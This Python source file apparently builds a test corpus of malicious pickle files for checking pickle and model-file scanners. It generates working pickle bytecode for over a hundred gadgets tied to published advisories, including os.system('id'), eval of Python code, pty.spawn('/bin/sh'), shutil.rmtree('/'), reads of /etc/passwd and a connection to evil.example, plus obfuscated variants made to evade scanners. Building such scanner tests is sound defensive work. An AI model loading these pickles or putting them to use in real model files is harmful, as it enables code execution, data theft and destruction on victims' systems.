"""Pickles that call what they should not: the gadgets of the published advisories, each in a program of its own.

The plain ones are calls of one function. GHSA ids without a project are picklescan's.
"""

from __future__ import annotations

import struct

from corpus import Sample, add, bad


def text(value: str) -> bytes:
    """SHORT_BINUNICODE, or BINUNICODE when it is long."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def stack_global(module: str, name: str) -> bytes:
    """Push a global of protocol 4."""
    return text(module) + text(name) + b"\x93"


CODE = "__import__('os').system('id')"
GADGETS: tuple[tuple[str, str, str, str], ...] = (
    ("os", "system", "CWE-502: the plain attack", "id"),
    ("posix", "system", "CWE-502: by the name under which it is pickled", "id"),
    ("nt", "system", "CWE-502: the same on Windows", "id"),
    ("os", "popen", "CWE-502", "id"),
    ("os", "execvp", "CWE-502", "sh"),
    ("subprocess", "Popen", "CWE-502", "id"),
    ("subprocess", "check_output", "CWE-502", "id"),
    ("_posixsubprocess", "fork_exec", "the private twin of subprocess", "id"),
    ("pty", "spawn", "GHSA-vqmv-47xg-9wpr; fickling GHSA-r7v6-mfhq-g3m2", "/bin/sh"),
    ("commands", "getoutput", "Python 2's subprocess", "id"),
    ("builtins", "eval", "CWE-95", CODE),
    ("builtins", "exec", "CWE-95", CODE),
    ("builtins", "compile", "CWE-95", CODE),
    ("builtins", "__import__", "modelscan issue 85", "os"),
    ("builtins", "open", "CWE-73", "/etc/passwd"),
    ("builtins", "getattr", "GHSA-vvpj-8cmc-gx39's class: what reaches attributes reaches all", "x"),
    ("builtins", "breakpoint", "starts the debugger that the environment names", ""),
    ("importlib", "import_module", "picklescan pull request 74; modelscan issue 331", "os"),
    ("_frozen_importlib", "_gcd_import", "importlib's private twin", "os"),
    ("pkgutil", "resolve_name", "GHSA-vvpj-8cmc-gx39: any function by its name", "os:system"),
    ("pydoc", "locate", "GHSA-84r2-jw7c-4r5q", "os.system"),
    ("pydoc", "pipepager", "GHSA-655q-fx9r-782v", "x"),
    ("operator", "attrgetter", "GHSA-955r-x9j8-7rhh", "system"),
    ("_operator", "methodcaller", "GHSA-955r-x9j8-7rhh: through the private twin", "system"),
    ("operator", "itemgetter", "GHSA-955r-x9j8-7rhh", "system"),
    ("functools", "partial", "picklescan: partial(os.system, …)", "x"),
    ("functools", "reduce", "calls what it is given", "x"),
    ("marshal", "loads", "fickling GHSA-565g-hwwr-4pp3", "x"),
    ("types", "FunctionType", "fickling GHSA-565g-hwwr-4pp3", "x"),
    ("types", "CodeType", "picklescan: code objects made from numbers", "x"),
    ("runpy", "run_path", "fickling GHSA-wfq2-52f7-7qvj", "x.py"),
    ("runpy", "_run_code", "picklescan", CODE),
    ("code", "InteractiveInterpreter.runcode", "GHSA-cj3c-v495-4xqh", CODE),
    ("timeit", "timeit", "GHSA-v7x6-rv5q-mhwc", CODE),
    ("cProfile", "run", "GHSA-49gj-c84q-6qm9", CODE),
    ("cProfile", "runctx", "GHSA-9w88-8rmg-7g2p", CODE),
    ("profile", "Profile.run", "GHSA-x696-vm39-cp64", CODE),
    ("profile", "Profile.runctx", "GHSA-6vqj-c2q5-j97w", CODE),
    ("trace", "Trace.run", "GHSA-5qwp-399c-mjwf", CODE),
    ("trace", "Trace.runctx", "GHSA-g344-hcph-8vgg", CODE),
    ("bdb", "Bdb.run", "picklescan", CODE),
    ("pdb", "run", "CWE-95", CODE),
    ("doctest", "debug_script", "GHSA-fqq6-7vqf-w3fg", CODE),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", "GHSA-3vg9-h568-4w9m, CVE-2025-71354", CODE),
    ("idlelib.autocomplete", "AutoComplete.get_entity", "GHSA-6w4w-5w54-rjvr", CODE),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", "GHSA-7cq8-mj8x-j263", CODE),
    ("idlelib.calltip", "Calltip.fetch_tip", "GHSA-8r4j-24qv-fmq9", CODE),
    ("idlelib.calltip", "get_entity", "GHSA-9xph-j2h6-g47v", CODE),
    ("idlelib.run", "Executive.runcode", "GHSA-m869-42cg-3xwr", CODE),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", "GHSA-j343-8v2j-ff7w", CODE),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223", CODE),
    ("lib2to3.pgen2.grammar", "Grammar.loads", "GHSA-f54q-57x4-jg88", "x"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", "GHSA-p9w7-82w4-7q8m", CODE),
    ("ensurepip", "_run_pip", "GHSA-xp4f-hrf8-rxw7", "x"),
    ("pip", "main", "CVE-2025-1716", "install"),
    ("pip._internal.cli.main", "main", "CVE-2025-1716, one module further in", "install"),
    ("venv", "create", "picklescan", "x"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", "GHSA-q77w-mwjj-7mqx, CVE-2025-10157", "id"),
    ("distutils.file_util", "write_file", "GHSA-m273-6v24-x4m4", "x"),
    ("distutils.spawn", "spawn", "CWE-78", "id"),
    ("ctypes", "CDLL", "GHSA-4675-36f9-wf6r", "libc.so.6"),
    ("numpy.f2py.crackfortran", "getlincoef", "GHSA-r8g5-cgf2-4m4m", CODE),
    ("numpy.f2py.crackfortran", "_eval_length", "picklescan", CODE),
    ("numpy.testing._private.utils", "runstring", "picklescan", CODE),
    ("numpy.ctypeslib", "load_library", "loads native code", "x"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", "GHSA-4r9r-ch6f-vxmx", CODE),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "GHSA-4whj-rm5r-c2v8", CODE),
    ("torch._dynamo.guards", "GuardBuilder.get", "GHSA-86cj-95qr-2p4f", CODE),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", "GHSA-f4x7-rfwp-v3xw", CODE),
    ("torch.utils.collect_env", "run", "GHSA-f745-w6jp-hpxx", "id"),
    ("torch.utils.collect_env", "run_and_read_all", "GHSA-jhph-76pp-mggw", "id"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "GHSA-h3qp-7fh3-f8h4", "pickle"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", "GHSA-vr7h-p6mm-wpmh", CODE),
    ("torch.utils._config_module", "ConfigModule.load_config", "GHSA-vv6j-3g6g-2pvj", "x"),
    ("torch._inductor.codecache", "compile_file", "GHSA-655q-fx9r-782v", "x"),
    ("torch.hub", "load", "runs code from a repository", "x/y"),
    ("torch.jit.annotations", "parse_type_line", "CVE-2022-45907", CODE),
    ("torch.distributed.rpc.internal", "_run_function", "CVE-2024-5480's function", "x"),
    ("torch.fx.graph_module", "reduce_graph_module", "runs the source that its state holds", "x"),
    ("torch.package.package_importer", "PackageImporter", "runs the code in an archive", "x"),
    ("torch", "load", "reads another pickle", "x"),
    ("torch.serialization", "load", "reads another pickle", "x"),
    ("torch.storage", "UntypedStorage.from_file", "maps any file", "/etc/passwd"),
    ("joblib", "load", "reads another pickle", "x"),
    ("joblib.numpy_pickle_compat", "NDArrayWrapper", "reads the file that its state names", "x"),
    ("numpy", "load", "reads another pickle", "x"),
    ("numpy", "fromfile", "reads any file", "/etc/passwd"),
    ("numpy", "savetxt", "writes any file", "x"),
    ("pandas", "read_pickle", "reads another pickle", "x"),
    ("pandas", "eval", "runs code", CODE),
    ("pandas.io.parsers.readers", "read_csv", "modelscan issue 338: sends data away", "http"),
    ("skops.io", "load", "reads another model", "x"),
    ("dill", "loads", "reads another pickle", "x"),
    ("dill._dill", "_create_code", "makes code objects", "x"),
    ("cloudpickle.cloudpickle", "_make_function", "picklescan: functions from code objects", "x"),
    ("cloudpickle.cloudpickle", "subimport", "picklescan", "os"),
    ("multiprocessing.util", "spawnv_passfds", "modelscan issue 338", "/bin/sh"),
    ("mlflow.projects.backend.local", "_run_entry_point", "modelscan issue 338", "id"),
    ("uuid", "_get_command_stdout", "GHSA-g38g-8gr9-h9xp", "id"),
    ("_osx_support", "_read_output", "GHSA-g38g-8gr9-h9xp", "id"),
    ("_aix_support", "_read_cmd_output", "GHSA-g38g-8gr9-h9xp", "id"),
    ("_pyrepl.pager", "pipe_pager", "GHSA-g38g-8gr9-h9xp", "x"),
    ("imaplib", "IMAP4_stream", "GHSA-g38g-8gr9-h9xp: runs a command", "id"),
    ("test.support.script_helper", "assert_python_ok", "GHSA-g38g-8gr9-h9xp", "-c"),
    ("socket", "create_connection", "opens a connection", "x"),
    ("ssl", "get_server_certificate", "picklescan: sends data by DNS", "x"),
    ("urllib.request", "urlopen", "GHSA-hgrh-qx5j-jfwx", "http"),
    ("requests.api", "get", "opens a connection", "http"),
    ("aiohttp.client", "ClientSession", "opens a connection", ""),
    ("smtplib", "SMTP", "fickling GHSA-mhc9-48gj-9gp3", "x"),
    ("webbrowser", "open", "opens what it is given", "http"),
    ("_io", "FileIO", "picklescan: open by its class", "/etc/passwd"),
    ("shutil", "rmtree", "removes files", "/"),
    ("logging", "FileHandler", "picklescan: makes files", "x"),
    ("logging.config", "_resolve", "imports what it is given", "os.system"),
    ("sqlite3", "connect", "makes files, loads extensions", "x"),
    ("zipfile", "ZipFile", "reads files", "x"),
    ("sys", "exit", "ends the process", ""),
    ("signal", "raise_signal", "fickling GHSA-mhc9-48gj-9gp3", "x"),
    ("picklescan.scanner", "scan_bytes", "fickling pull request 249: reaches for a scanner", "x"),
    ("os.path", "os.system", "a dotted name through any module that imports os", "id"),
    ("sklearn.utils", "os.system", "a dotted name through a library", "id"),
    ("numpy", "__builtins__", "modelscan issue 330", "x"),
    ("mylib.models", "Net", "a class of which nobody knows what it does", "x"),
    ("numpy", "ndarray.tofile", "a method of an allowed class", "x"),
)  # fmt: skip


def call(module: str, name: str, argument: str) -> bytes:
    """A program of protocol 4 that calls one function."""
    return b"\x80\x04" + stack_global(module, name) + text(argument) + b"\x85R."


for _module, _name, _why, _argument in GADGETS:
    add(
        Sample(
            f"pickle_gadgets/{_module}.{_name}", "pickle", _why, "model.pkl", "",
            lambda m=_module, n=_name, a=_argument: call(m, n, a), dangerous=True,
        )
    )  # fmt: skip


@bad("pickle", "modelscan issue 330: attributes written onto a function, then read back as a name", file="model.pkl")
def built_onto_a_function() -> bytes:
    data = b"\x80\x04" + stack_global("numpy", "size") + b"\x940" + stack_global("numpy", "__builtins__") + b"\x940"
    data += b"h\x00}}" + text("shape") + b"h\x01s\x86b0h\x00h\x00" + text("eval") + b"\x86R"
    return data + text(CODE) + b"\x85R."


@bad("pickle", "modelscan issue 331: the name is joined while loading", file="model.pkl")
def name_joined_while_loading() -> bytes:
    module = stack_global("importlib", "import_module") + text("builtins") + b"\x85R\x94"
    fetch = stack_global("builtins", "getattr") + b"\x94"
    join = b"h\x01h\x01h\x00" + text("str") + b"\x86R" + text("join") + b"\x86R"
    return b"\x80\x04" + module + fetch + join + text("") + b"](" + text("o") + text("s") + b"e\x86R."


@bad("pickle", "GHSA-84r2-jw7c-4r5q: methodcaller on a module that pydoc found", file="model.pkl")
def method_of_a_located_module() -> bytes:
    caller = stack_global("operator", "methodcaller") + text("system") + text("id") + b"\x86R"
    return b"\x80\x04" + caller + stack_global("pydoc", "locate") + text("os") + b"\x85R\x85R."


@bad("pickle", "fickling GHSA-mhc9-48gj-9gp3: a BUILD behind the call makes its result look used", file="model.pkl")
def build_behind_the_call() -> bytes:
    return call("smtplib", "SMTP", "evil.example")[:-1] + b"}" + text("x") + b"K\x01sb."


@bad("pickle", "fickling: a call whose result is thrown away", file="model.pkl")
def result_thrown_away() -> bytes:
    return call("pty", "spawn", "/bin/sh")[:-1] + b"0N."


@bad("pickle", "sour pickles (Slaviero, 2011): globals, compile, eval and apply of Python 2", file="model.pkl")
def sour() -> bytes:
    data = b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
    return data + b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\napply\n(g102\n(ltR."
